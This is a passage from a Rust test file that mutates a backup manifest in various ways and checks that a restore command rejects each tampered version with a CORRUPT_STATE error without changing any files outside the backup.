            Box::new(|l: &mut Vec<Value>, _: &Ctx| {
                let i = line_of(l, "intend");
                l.swap(i, i + 1);
            }),
            true,
        ),
        (
            "records: one duplicated",
            Box::new(|l: &mut Vec<Value>, _: &Ctx| {
                let i = line_of(l, "intend");
                let dup = l[i].clone();
                l.insert(i + 1, dup);
            }),
            true,
        ),
        (
            "records: an outcome duplicated",
            Box::new(|l: &mut Vec<Value>, _: &Ctx| {
                let i = line_of(l, "done");
                let dup = l[i].clone();
                l.insert(i + 1, dup);
            }),
            true,
        ),
        (
            "records: an outcome for no entry",
            Box::new(|l: &mut Vec<Value>, _: &Ctx| {
                let i = line_of(l, "done");
                record(&mut l[i])["done"]["n"] = json!(99);
            }),
            true,
        ),
        (
            "records: begin removed",
            Box::new(|l: &mut Vec<Value>, _: &Ctx| {
                let i = line_of(l, "begin");
                l.remove(i);
            }),
            true,
        ),
        (
            "records: an intend removed",
            Box::new(|l: &mut Vec<Value>, _: &Ctx| {
                let i = line_of(l, "intend");
                l.remove(i);
            }),
            true,
        ),
    ]
}

#[test]
fn tampered_manifests_are_refused_before_anything_is_written() {
    let (env, backup) = tamper_world();
    let manifest = backup.join("manifest.jsonl");
    let original = std::fs::read(&manifest).unwrap();
    let ctx = Ctx {
        victim: env.root.join("victim/.bashrc"),
        wd: env.grove_home.join("workspaces"),
    };
    write(&ctx.victim, "the user's own\n");
    let except = [backup.clone(), env.grove_home.join("locks")];
    let before = tree_digest(&env.root, &except);
    let mut tried = 0;
    let mut refused: BTreeMap<String, String> = BTreeMap::new();
    let check = |what: &str, text: &[u8], refused: &mut BTreeMap<String, String>| {
        std::fs::write(&manifest, text).unwrap();
        let r = env.migrate(&["restore", "--format", "json"]);
        let code = if r.status == 0 {
            "ok".to_string()
        } else {
            r.json()["error"]["code"]
                .as_str()
                .unwrap_or("?")
                .to_string()
        };
        refused.insert(what.to_string(), code);
        assert_eq!(
            tree_digest(&env.root, &except),
            before,
            "{what}: something outside the backup changed: {r}"
        );
    };
    for (name, mutate, structural) in mutations() {
        let mut lines: Vec<Value> = String::from_utf8(original.clone())
            .unwrap()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        mutate(&mut lines, &ctx);
        check(name, text_of(&lines).as_bytes(), &mut refused);
        tried += 1;
        if structural {
            reseal(&mut lines);
            check(
                &format!("{name} (chain recomputed)"),
                text_of(&lines).as_bytes(),
                &mut refused,
            );
            tried += 1;
        }
    }
    // A record cut short (its line break kept), and one cut by a kill (no line break).
    let text = String::from_utf8(original.clone()).unwrap();
    let cut = text.find("\"intend\"").unwrap() + 40;
    let end = text[cut..].find('\n').unwrap() + cut;
    let truncated = format!("{}{}", &text[..cut], &text[end..]);
    check("records: one truncated", truncated.as_bytes(), &mut refused);
    tried += 1;
    let not_refused: Vec<(&String, &String)> = refused
        .iter()
        .filter(|(_, code)| *code != "CORRUPT_STATE")
        .collect();
    assert!(
        not_refused.is_empty(),
        "{} of {tried} tampered manifests were not refused with CORRUPT_STATE: {not_refused:#?}",
        not_refused.len()
    );
    assert!(tried >= 30, "{tried}");
    eprintln!("tamper suite: {tried} mutations, each refused with CORRUPT_STATE");

    // The untouched manifest restores everything.
    std::fs::write(&manifest, &original).unwrap();
    let r = env.migrate(&["restore", "--format", "json"]).success();
    assert_eq!(restore_statuses(&r), ["restored"; 6], "{r}");
}
